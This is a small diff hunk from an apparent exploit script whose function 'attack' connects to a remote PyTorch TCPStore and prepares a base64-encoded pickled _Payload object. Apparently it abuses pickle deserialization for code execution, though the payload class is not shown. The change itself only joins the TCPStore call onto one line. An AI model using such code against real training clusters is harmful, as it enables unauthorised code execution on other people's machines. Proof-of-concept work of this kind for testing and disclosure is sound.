@@ -35,9 +35,7 @@ def attack(marker: str, host: str, port: int) -> str:
     except OSError as error:
         return f"closed: {error.strerror or error}"
     try:
-        store = TCPStore(
-            host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=5)
-        )
+        store = TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=5))
     except (RuntimeError, ValueError):
         return "no store"
     state = base64.b64encode(pickle.dumps(_Payload(marker))).decode()
